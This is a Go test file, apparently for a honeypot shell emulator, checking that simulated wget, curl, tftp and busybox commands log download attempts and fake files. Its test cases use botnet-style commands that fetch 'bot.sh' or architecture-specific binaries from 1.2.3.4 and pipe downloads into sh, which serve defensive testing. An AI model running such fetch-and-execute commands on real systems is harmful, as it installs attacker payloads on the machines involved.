@@ -0,0 +1,107 @@
+package main
+
+import (
+	"bytes"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestDownloadCommands(t *testing.T) {
+	for _, test := range []struct {
+		command string
+		status  uint32
+		events  []downloadAttemptLog
+		files   []string
+	}{
+		{
+			"cd /tmp; wget -q http://1.2.3.4/bot.sh; wget -q 1.2.3.4/bot.sh",
+			0,
+			[]downloadAttemptLog{
+				{Tool: "wget", Method: "GET", URL: "http://1.2.3.4/bot.sh", Output: "bot.sh"},
+				{Tool: "wget", Method: "GET", URL: "http://1.2.3.4/bot.sh", Output: "bot.sh.1"},
+			},
+			[]string{"/tmp/bot.sh", "/tmp/bot.sh.1"},
+		},
+		{
+			"wget http://example.com/x -O- --post-data=a=b | sh",
+			0,
+			[]downloadAttemptLog{{Tool: "wget", Method: "POST", URL: "http://example.com/x", Output: "-"}},
+			nil,
+		},
+		{
+			"curl -sSL https://example.com/install.sh -o /tmp/i.sh; curl -X put -O http://h/a/b",
+			0,
+			[]downloadAttemptLog{
+				{Tool: "curl", Method: "GET", URL: "https://example.com/install.sh", Output: "/tmp/i.sh"},
+				{Tool: "curl", Method: "PUT", URL: "http://h/a/b", Output: "b"},
+			},
+			[]string{"/tmp/i.sh", "/root/b"},
+		},
+		{
+			"tftp -g -r mips -l /tmp/m 1.2.3.4; tftp 1.2.3.4 -c get arm7",
+			0,
+			[]downloadAttemptLog{
+				{Tool: "tftp", Method: "GET", URL: "tftp://1.2.3.4/mips", Output: "/tmp/m"},
+				{Tool: "tftp", Method: "GET", URL: "tftp://1.2.3.4/arm7", Output: "arm7"},
+			},
+			[]string{"/tmp/m", "/root/arm7"},
+		},
+		{
+			"/bin/busybox ftpget -u anonymous -p x 1.2.3.4 /tmp/f bins/f; busybox wget -qO /tmp/w http://1.2.3.4/w",
+			0,
+			[]downloadAttemptLog{
+				{Tool: "ftpget", Method: "GET", URL: "ftp://anonymous:x@1.2.3.4/bins/f", Output: "/tmp/f"},
+				{Tool: "busybox wget", Method: "GET", URL: "http://1.2.3.4/w", Output: "/tmp/w"},
+			},
+			[]string{"/tmp/f", "/tmp/w"},
+		},
+		{"busybox ECCHI", 127, nil, nil},
+		{"tftp -c get", 1, nil, nil},
+		{"busybox tftp -c", 1, nil, nil},
+	} {
+		filesystem := defaultFilesystemImage.clone()
+		events := make(chan logEntry, 10)
+		status, err := executeProgram(commandContext{
+			args:       []string{"sh", "-c", test.command},
+			stdin:      newReaderReadLiner(strings.NewReader("")),
+			stdout:     &bytes.Buffer{},
+			stderr:     &bytes.Buffer{},
+			filesystem: filesystem,
+			env:        newShellEnvironment("/root", map[string]string{"HOME": "/root"}),
+			events:     events,
+		})
+		if err != nil {
+			t.Fatalf("Failed to execute program: %v", err)
+		}
+		close(events)
+		if status != test.status {
+			t.Errorf("%q: status=%v, want %v", test.command, status, test.status)
+		}
+		var downloads []downloadAttemptLog
+		for entry := range events {
+			if download, ok := entry.(downloadAttemptLog); ok {
+				downloads = append(downloads, download)
+			}
+		}
+		if !reflect.DeepEqual(downloads, test.events) {
+			t.Errorf("%q: events=%v, want %v", test.command, downloads, test.events)
+		}
+		for _, file := range test.files {
+			if _, err := filesystem.stat(file); err != nil {
+				t.Errorf("%q: %v missing: %v", test.command, file, err)
+			}
+		}
+	}
+}
+
+func TestWgetProgress(t *testing.T) {
+	status, _, stderr := runTestShell(t, defaultFilesystemImage.clone(), []string{"busybox", "wget", "http://1.2.3.4/bot.sh"}, "")
+	if status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedStderr := "Connecting to 1.2.3.4 (1.2.3.4:80)\nsaving to 'bot.sh'\nbot.sh               100% |********************************|     0  0:00:00 ETA\n'bot.sh' saved\n"
+	if stderr != expectedStderr {
+		t.Errorf("stderr=%q, want %q", stderr, expectedStderr)
+	}
+}